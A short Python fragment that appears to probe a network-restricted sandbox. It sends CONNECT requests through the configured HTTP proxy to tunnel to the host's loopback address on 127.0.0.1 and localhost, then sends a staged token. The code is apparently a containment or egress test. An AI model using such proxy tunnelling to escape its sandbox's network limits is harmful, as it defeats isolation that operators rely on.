# Asks the proxy of a box that may reach one name for a tunnel to the host's loopback.
def ask(host):
    place = os.environ.get("http_proxy", f"http://127.0.0.1:{stage['tcp']}").partition("://")[2].split(":")
    one = socket.create_connection((place[0], int(place[1])), 3)
    one.settimeout(0.2)
    one.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    with suppress(OSError): print(one.recv(4096)[:60])
    return one.send(stage["token"].encode())
attempt(lambda: ask(f"127.0.0.1:{stage['tcp']}"), lambda: ask(f"localhost:{stage['tcp']}"))
